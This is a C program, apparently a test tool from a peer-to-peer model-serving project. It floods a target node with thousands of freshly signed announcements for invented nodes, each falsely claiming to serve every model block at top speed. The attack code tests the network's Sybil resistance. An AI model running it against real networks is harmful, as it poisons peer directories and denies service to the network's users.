/* A stranger that hands the announcements of invented nodes to a node: they claim all blocks of its model, the right
 * weights and the best speed. In C, because signing thousands takes long elsewhere.
 *
 * Usage: attack_invent ADDRESS N [HOST]     HOST: announced instead of numeric addresses */
#include "base/clock.h"
#include "net/directory.h"
#include "net/introduction.h"
#include "net/transport/transport.h"
#include "tests/support/require.h"

#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { PART = 200, WAIT_US = 30000000 };

static sn_transport *transport;
static sn_peer node;

static void ignore(void *ctx) { (void)ctx; }

static void connect_to(const char *address) {
    sn_identity identity;
    sn_introducer *introducer = NULL;
    char found[SN_ADDRESS_MAX + 1];
    uint8_t key[SN_KEY_SIZE];
    REQUIRE(sn_identity_new(&identity, &err));
    REQUIRE(sn_transport_zmq_new(&identity, &transport, &err));
    REQUIRE(sn_introducer_new(NULL, NULL, ignore, NULL, &introducer, &err));
    REQUIRE(sn_introducer_ask(introducer, address, &err));
    for (int64_t until = sn_now_us() + WAIT_US; !sn_introducer_next(introducer, found, key);) {
        if (sn_now_us() > until) exit(1);
        sn_sleep_us(1000);
    }
    sn_introducer_free(&introducer);
    REQUIRE(sn_transport_dial(transport, found, key, &node, &err));
}

/* Hands over announcements and takes the reply, which the caller frees. */
static sn_msg *announce(const sn_buf *sealed, size_t n) {
    sn_msg *msg = NULL;
    sn_event event = {0};
    REQUIRE(sn_msg_new(SN_MSG_PEERS, 1, &msg, &err));
    msg->peers.protocol = SN_PROTOCOL_VERSION;
    if (n) msg->peers.from_tag = msg->peers.to_tag = UINT64_MAX; /* it asks for nothing */
    REQUIRE(sn_list_new(n, SN_ANNOUNCEMENTS_MAX, sizeof(sn_blob), &msg->peers.announcements, &err));
    for (size_t i = 0; i < n; i++) {
        sn_blob *blob = &msg->peers.announcements[msg->peers.n_announcements++];
        REQUIRE(sn_calloc(&blob->data, blob->len = sealed[i].len, 1, &err));
        memcpy(blob->data, sealed[i].data, blob->len);
    }
    REQUIRE(sn_transport_send(transport, node, &msg, &err));
    for (int64_t until = sn_now_us() + WAIT_US; !event.msg && sn_now_us() < until;)
        REQUIRE(sn_transport_recv(transport, until, &event, &err));
    if (!event.msg || event.msg->kind != SN_MSG_PEERS_REPLY) exit(1);
    return event.msg;
}

/* What a node would announce that serves all blocks: their hashes are those of the nodes that there are. */
static void take_template(sn_announcement *out) {
    sn_announcement *a = calloc(1, sizeof *a);
    sn_msg *reply = announce(NULL, 0);
    const sn_msg_peers_reply *peers = &reply->peers_reply;
    for (size_t i = 0; i < peers->n_announcements; i++) {
        const sn_blob *sealed = &peers->announcements[i];
        REQUIRE(sn_announcement_parse(sealed->data, sealed->len - SN_SIGNATURE_SIZE, a, &err));
        if (i == 0) sn_announcement_copy(out, a);
        for (uint64_t b = a->first_block; b < a->end_block; b++)
            memcpy(out->block_hash[b], a->block_hash[b - a->first_block], SN_KEY_SIZE);
    }
    sn_msg_free(&reply);
    free(a);
    out->first_block = 0;
    out->end_block = out->n_blocks;
    out->decode_us = 100;
    out->tokens_per_s = 100000;
    out->prompt_tokens_per_s = 1000000;
    out->kv_bytes_free = (uint64_t)1 << 40;
}

int main(int argc, char **argv) {
    static sn_announcement a;
    sn_buf sealed[PART];
    if (argc < 3) return 2;
    int n = require_int(argv[2], 1, 1000000);
    connect_to(argv[1]);
    take_template(&a);
    for (int sent = 0; sent < n;) {
        size_t part = 0;
        for (; part < PART && sent < n; part++, sent++) {
            sn_identity identity = {0}; /* no program connects to it, so it needs no CURVE key pair */
            uint8_t secret[crypto_sign_SECRETKEYBYTES];
            sn_random(identity.sign_secret, SN_KEY_SIZE);
            crypto_sign_seed_keypair(identity.id, secret, identity.sign_secret);
            memcpy(a.node, identity.id, SN_KEY_SIZE);
            sn_random(a.curve_key, SN_KEY_SIZE);
            a.sequence = (uint64_t)sn_unix_ms();
            a.expires_unix_ms = a.sequence + SN_ANNOUNCE_LIFE_MS_MAX - 1000;
            snprintf(a.name, sizeof a.name, "node%d", sent);
            if (argc > 3)
                snprintf(a.address, sizeof a.address, "%s:9", argv[3]);
            else
                snprintf(a.address, sizeof a.address, "127.%d.%d.1:9", 1 + sent % 200, sent / 200 % 250);
            sn_buf_init(&sealed[part], SN_ANNOUNCEMENT_SIZE_MAX);
            REQUIRE(sn_announcement_seal(&a, &identity, &sealed[part], &err));
        }
        sn_msg *reply = announce(sealed, part);
        sn_msg_free(&reply);
        for (size_t i = 0; i < part; i++) sn_buf_fini(&sealed[i]);
    }
    printf("invented %d nodes\n", n);
    sn_transport_free(&transport);
    return 0;
}
